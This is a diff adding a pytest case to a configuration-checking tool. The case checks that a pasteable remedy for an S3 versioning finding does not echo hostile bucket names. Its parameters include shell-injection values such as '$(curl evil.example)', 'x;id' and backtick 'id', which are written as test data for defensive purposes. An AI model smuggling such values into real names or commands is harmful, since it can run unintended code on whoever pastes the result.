@@ -164,3 +164,11 @@ def test_a_check_explains_itself(check: Check) -> None:
     assert check.why
     assert check.remedy
     assert check.why[0].islower()  # it stands after "because" and in tables
+
+
+@pytest.mark.parametrize("name", ["$(curl evil.example)", "x;id", "`id`", "a'b", 'a"b', "a|b", "a>b", "a\nb", "a\\b"])
+def test_a_command_to_paste_runs_nothing_that_somebody_called_his_bucket(name: str) -> None:
+    facts = Facts.model_validate({"dataset": f"s3://{name}/x", "aws": {"answers": {}}})
+    (finding,) = all_checks()["S3_VERSIONING"].inspect(facts, Demand(environment="prod", profile=Environment()))
+    assert finding.subject == name
+    assert name not in (finding.remedy or "")
